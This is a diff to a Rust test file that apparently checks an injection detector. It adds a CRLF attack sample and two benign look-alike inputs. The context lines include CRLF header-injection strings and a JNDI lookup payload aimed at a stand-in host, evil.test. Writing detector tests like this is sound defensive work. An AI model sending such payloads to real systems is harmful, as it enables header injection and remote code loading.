@@ -16,6 +16,7 @@ fn attacks_of_each_family() {
         (Query, "x\r\nSet-Cookie: a=b", "injection_crlf"),
         (Header, "foo\r\nX-Injected: 1", "injection_crlf"),
         (Query, "a\r\nHTTP/1.1 200 OK", "injection_crlf"),
+        (Query, "test\rnext=more", "injection_crlf"),
         (Header, "${jndi:ldap://evil.test/a}", "injection_jndi"),
         (
             Query,
@@ -211,6 +212,8 @@ fn benign_look_alikes() {
         (Query, "https://partner.example.com/callback?state=1"),
         (Query, "https://8.8.8.8.example.org/"),
         (Body, "Hello,\nName: Bob\nThanks"),
+        (Body, "Hello,\nsize=large\nThanks"),
+        (Query, "line one\nline two = fine"),
         (Query, "{{username}}"),
         (Query, "price is $5 (about 7*7 cents)"),
         (Body, "see the java.util.List docs"),
